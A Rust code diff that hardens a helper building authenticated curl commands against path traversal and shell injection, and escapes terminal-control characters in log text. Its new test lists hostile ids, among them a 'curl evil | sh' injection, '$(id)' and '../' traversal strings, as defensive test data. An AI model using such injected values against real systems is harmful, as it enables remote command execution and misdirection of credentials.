@@ -7,6 +7,7 @@ use super::{
     shape::{Answer, Fate, Incident},
     times,
 };
+use dispatcher_core::log_text::is_plain;
 use reports::event::FacilitatorEndpoint;
 use serde::Serialize;
 use std::{
@@ -141,8 +142,11 @@ impl Api<'_> {
 
     pub fn curl(&self, options: &str, path: &str) -> String {
         let base = self.dispatcher.map_or("$DISPATCHER", |url| url.trim_end_matches('/'));
-        // Ids are the log's, and a shell will read them.
-        let path: String = path.chars().filter(|one| one.is_ascii_alphanumeric() || ":/-_.".contains(*one)).collect();
+        // Ids are the log's, and a shell will read them. So will curl, which climbs by dots: the token would go to a tenant.
+        let may_stand = |one: &char| one.is_ascii_alphanumeric() || ":/-_.".contains(*one);
+        let path: String = path.chars().filter(may_stand).collect();
+        let kept: Vec<&str> = path.split('/').filter(|segment| !matches!(*segment, "" | "." | "..")).collect();
+        let path = kept.join("/");
         format!("curl -s {options}-H \"authorization: Bearer $PLATFORM_TOKEN\" \"{base}/__platform/{path}\"")
     }
 }
@@ -236,7 +240,7 @@ fn cut_off(incident: &Incident) -> Vec<CutOff> {
 
 /// Text of a log, in one line that steers no terminal.
 pub fn plain(text: &str) -> String {
-    text.chars().flat_map(|one| if one.is_control() { one.escape_default().collect() } else { vec![one] }).collect()
+    text.chars().flat_map(|one| if is_plain(one) { vec![one] } else { one.escape_default().collect() }).collect()
 }
 
 impl fmt::Display for Page {
@@ -313,5 +317,31 @@ fn payments(f: &mut fmt::Formatter<'_>, title: &str, payments: &[OpenPayment]) -
     match payments.len().saturating_sub(LISTED) {
         0 => Ok(()),
         more => writeln!(f, "  and {more} more, in --format json"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_id_of_a_log_leads_the_token_elsewhere_or_runs_a_command() {
+        let api = Api { dispatcher: Some("https://edge.example/") };
+        for hostile in [
+            "../../t/evil",
+            "..$/.\u{7f}./t/evil",
+            "\"; curl evil | sh; \"",
+            "$(id)",
+            "./.././../t/evil",
+            "a/../../../t",
+        ] {
+            let command = api.curl("-X DELETE ", &format!("tenants/{hostile}/quarantine"));
+            let url = command.rsplit('"').nth(1).unwrap();
+            let path = url.strip_prefix("https://edge.example/__platform/tenants/").expect(url);
+            assert!(!path.split('/').any(|segment| matches!(segment, "" | "." | "..")), "{command}");
+            let rest = command.replacen("$PLATFORM_TOKEN", "", 1);
+            assert!(!rest.contains(['$', ';', '|', '`']), "{command}");
+        }
+        assert_eq!(plain("a\u{202e}b\u{1b}[2J\n"), "a\\u{202e}b\\u{1b}[2J\\n");
     }
 }
